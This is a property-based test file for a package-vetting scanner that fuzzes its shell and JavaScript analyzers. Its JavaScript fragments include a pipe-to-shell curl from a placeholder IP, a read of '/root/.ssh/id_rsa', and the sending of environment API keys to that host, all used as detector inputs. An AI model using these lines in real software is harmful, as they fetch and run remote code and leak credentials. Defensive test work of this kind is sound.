"""What spares the analyzers of scripts, shell and JavaScript work: each short cut beside its long way."""

from __future__ import annotations

import re
import sys

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pattern_words import every_match_holds

from sluicegate.known.shell.reader import Reader
from sluicegate.known.shell.script import Script
from sluicegate.vet.hints import one_of
from sluicegate.vet.inspect.analyzers import javascript
from sluicegate.vet.inspect.analyzers.javascript import JavaScriptAnalyzer
from sluicegate.vet.inspect.analyzers.jsflow import walk
from sluicegate.vet.inspect.analyzers.lineflow import capabilities, flow, rules, staged, text, words
from sluicegate.vet.inspect.analyzers.programs import BundlePrograms
from sluicegate.vet.inspect.analyzers.shflow.flow import ShellFlow
from sluicegate.vet.inspect.analyzers.shflow.memory import ShellState
from sluicegate.vet.inspect.analyzers.shflow.values import ShellValue, Tag
from sluicegate.vet.inspect.analyzers.shflow.watched import ShellCall, Sink
from sluicegate.vet.inspect.rule import Inspected, Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import View

GATES = {
    "fetch": (words.FETCH, words.FETCH_WORDS),
    "decode": (words.DECODE, words.DECODE_WORDS),
    "kept": (words.KEPT, words.KEPT_WORDS),
    "watch": (words.WATCH, words.WATCH_WORDS),
    "erase": (words.ERASE, words.ERASE_WORDS),
    "keys": (words.KEYS, words.KEYS_WORDS),
    "opens": (flow._OPENS, flow._OPENS_WORDS),
    "env": (capabilities._ENV, capabilities._ENV_WORDS),
    "read": (capabilities._READ, capabilities._READ_WORDS),
    "write": (capabilities._WRITE, capabilities._WRITE_WORDS),
    "run": (capabilities._RUN, capabilities._RUN_WORDS),
    "worth": (javascript._WORTH, javascript._WORDS),
} | {
    f"comment of {kind} {number}": gate
    for kind, gates in text._COMMENTS.items()
    for number, gate in enumerate(gates)
}


def pieces(*parts: str, most: int = 12) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(parts), max_size=most).map("".join)


@pytest.mark.parametrize("name", GATES)
def test_whatever_an_expression_finds_holds_one_of_its_words(name: str) -> None:
    pattern, held = GATES[name]
    assert every_match_holds(pattern, held)


@given(st.from_regex(re.compile(staged._DECRYPTED.pattern)))
@example("age\t-d")
@example("unzip\t-P")
@settings(max_examples=150, deadline=None)
def test_whatever_decrypts_is_looked_for(found: str) -> None:
    words_of_one = one_of(staged._DECRYPTERS, found) or staged._AGE.search(found) is not None
    assert words_of_one or staged._DECRYPTED.search(found) is None


SUFFIXES = "dat|data|bin|png|jpe?g|gif|ico|bmp|webp|pdf|log|tmp|cache|bak|txt|csv|md|woff2?|mp3|mp4|enc|blob|part\\w{0,3}|old|doc|cfg"
NAMES = (*SUFFIXES.replace("?", "").replace("\\w{0,3}", "").split("|"), "sh", "py", "exe")
DATA = pieces(
    *(f".{name}" for name in NAMES), *(f".{name.upper()}" for name in NAMES), ".\u0131co", ".\u0130CO", ".ba\u212a", ".part1",
    "a", "_", ".", "'", '"', " ", "\n", "mv a", "cp ", "ren ", "sh ", "python3 x", "php a", "; bash a", " b.sh", "\n./b.sh", "exec(open('a", "eval(File.read('",
    "require('a", "load 'a", "import('./a", "runpy.run_path('a", most=20,
)  # fmt: skip


PLAIN = re.compile(rf"\.(?i:{SUFFIXES})(?![\w.])")


@given(DATA)
def test_a_suffix_is_told_by_its_first_letter_as_by_all(written: str) -> None:
    assert [m.span() for m in staged._DATA_WORD.finditer(written)] == [
        m.span() for m in PLAIN.finditer(written)
    ]


def test_whatever_letter_a_suffix_begins_with_is_told() -> None:
    """Any of ASCII, and any that has case, for no other can be taken for a letter of a suffix."""
    every = map(chr, range(sys.maxunicode + 1))
    letters = [char for char in every if char.isascii() or char.lower() != char or char.upper() != char]
    for name in NAMES:
        written = "".join(f".{char}{name[1:]} " for char in letters)
        assert staged._DATA_WORD.findall(written) == PLAIN.findall(written)


def renamed_or_run(written: str) -> list[staged.Staged]:
    """The same, all looked for in the order of the text."""
    found: list[staged.Staged] = []
    for suffix, head, start in staged._heads(written):
        renamed = staged._RENAMED.search(head)
        if renamed is not None:
            new = staged._NEW_NAME.match(written, suffix.end())
            if new is not None and "example" not in renamed[1] and staged._is_run(written, new[1], new.end()):
                what = f"{renamed[1]}{suffix[0]} becomes the program {new[1]} and is run"
                judged = staged._plain(rules.ASSEMBLED)
                found.append(staged.Staged(start + renamed.start(1), new.end(), judged, what))
        run = staged._RUNS.search(head)
        quiet = suffix[0][1:].lower() in staged._NEVER_RUN
        if run is not None and not quiet and (run[1] != "php" or suffix[0] != ".txt"):
            name = run[2] + suffix[0]
            found.append(
                staged._hidden(start + run.start(1), suffix.end(), name, {}, f"{run[1]} runs {name}")
            )
    return found


def view_of(written: str, kind: Kind, path: str = "a") -> View:
    artifact = Artifact(path=path, data=written.encode("utf-8", "replace"), mode=0o644, kind=kind)
    return View(artifact=artifact, text=written, language=kind)


@given(DATA)
@settings(deadline=None)
def test_files_of_data_are_found_however_few_lines_are_looked_at(written: str) -> None:
    assert list(staged._data_words(written, {})) == renamed_or_run(written)
    for kind in (Kind.PYTHON, Kind.RUBY, Kind.JAVASCRIPT):
        view = view_of(written, kind)
        assert list(staged.staged(view, {})) == list(staged._data_loaded(view, {}))


# -- shell -----------------------------------------------------------------------------------------------

SHELL = pieces(
    "ab", " ", "x=", '"', "'", "$a", "${b}", "$(", ")", "`", "}", "\\", "\n", "|", ";", "# c\n", "if ", "fi", "<<E\n", "E\n",
    "$'\\x41'", "((1))", "$((1))", "curl $x ", "eval ", most=30,
)  # fmt: skip


def shown(script: Script) -> list[object]:
    return [script.partial, script.functions, [(s.kind, s.feed, s.outputs) for s in script.scopes]] + [
        (c.kind, c.start, c.end, c.words, c.feed, c.body, [n for n, _ in c.assigns]) for c in script.commands
    ]


class Ignore:
    """Nothing is noted."""

    def reached(self, sink: Sink, tags: frozenset[Tag]) -> None:
        """Not noted."""

    def called(self, call: ShellCall) -> None:
        """Not noted."""

    def wrote(self, call: ShellCall, path: str, value: ShellValue) -> None:
        """Not noted."""


@given(SHELL, st.lists(st.integers(2, 160), min_size=2, max_size=4))
def test_a_shared_text_is_read_as_it_would_be_by_each(written: str, budgets: list[int]) -> None:
    programs = BundlePrograms(())
    for steps in budgets:
        memory, alone = ShellState(steps=steps, programs=programs), ShellState(steps=steps)
        shared, own = ShellFlow(Ignore(), memory), ShellFlow(Ignore(), alone)
        shared.read(written, shared=True)
        own.read(written)
        assert shown(shared.script) == shown(own.script)
        assert (memory.steps, memory.partial) == (alone.steps, alone.partial)


def test_a_shared_text_is_read_once() -> None:
    programs = BundlePrograms(())
    flows = [ShellFlow(Ignore(), ShellState(steps=900, programs=programs)) for _ in range(2)]
    for each in flows:
        each.read("a | b\n", shared=True)
    assert flows[0].script is flows[1].script
    assert Reader("a | b\n", 450).read().steps == flows[0].script.steps


# -- JavaScript ------------------------------------------------------------------------------------------


@given(pieces("(", "[", "{", ")", "]", "}", "a", most=30).map(str.encode), st.integers(0, 6))
def test_brackets_are_too_deep_only_where_there_are_as_many(source: bytes, most: int) -> None:
    depth = deepest = 0
    for byte in source:
        depth = max(0, depth + (byte in b"([{") - (byte in b")]}"))
        deepest = max(deepest, depth)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(javascript, "NESTING", most)
        assert (javascript._nesting(source) > most) == (deepest > most)


PROGRAM = pieces(
    "const a = require('child_process');", "let fs = require('fs');", "let env = process; const g = env.env.A_KEY;", "const c = a; c.exec('git y');", "const d = send; d('http://192.0.2.1', g);", "const {exec} = a;", "const send = fetch;",
    "a.exec('curl http://192.0.2.1/x | sh');", "exec('cat ' + b);", "const e = env.env;", "const b = e.API_KEY;", "let key = process.env;",
    "send('http://192.0.2.1', {body: b, send: e});", "const o = {exec: fs, send, b: a, key: b};", "o.b.exec('git x');", "o.send('http://192.0.2.1', o.key);",
    "b = fs.readFileSync('/root/.ssh/id_rsa');", "env = b;", "o.fs = e;", "fs = b;", "x[b](a);", "o[e] = send;", "const key = send(b);", "eval(key);",
    "function send(key) { fetch('http://192.0.2.1', {body: key}); return key }", "const send = b => o.exec(b);", "class a { send(b) { eval(b) } }", "o = {'key': atob(b)};",
    most=16,
)  # fmt: skip


def inspected(written: str) -> Inspected:
    view = view_of(written, Kind.JAVASCRIPT, "a.js")
    bundle = Bundle(name="b", root="", artifacts=(view.artifact,), gaps=(), anomalies=())
    return JavaScriptAnalyzer().inspect(Subject(bundle=bundle, views=(view,)))


@given(PROGRAM)
@settings(max_examples=300, deadline=None)
def test_of_some_names_only_the_spelling_counts(written: str) -> None:
    spelled = inspected(written)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(walk, "_SPELLED", {})
        assert found(inspected(written)) == found(spelled)


def found(seen: Inspected) -> list[object]:
    return [(m.rule, m.start, m.end, m.severity, m.confidence, m.message) for m in seen.matches] + [
        seen.capabilities, seen.gaps,
    ]  # fmt: skip
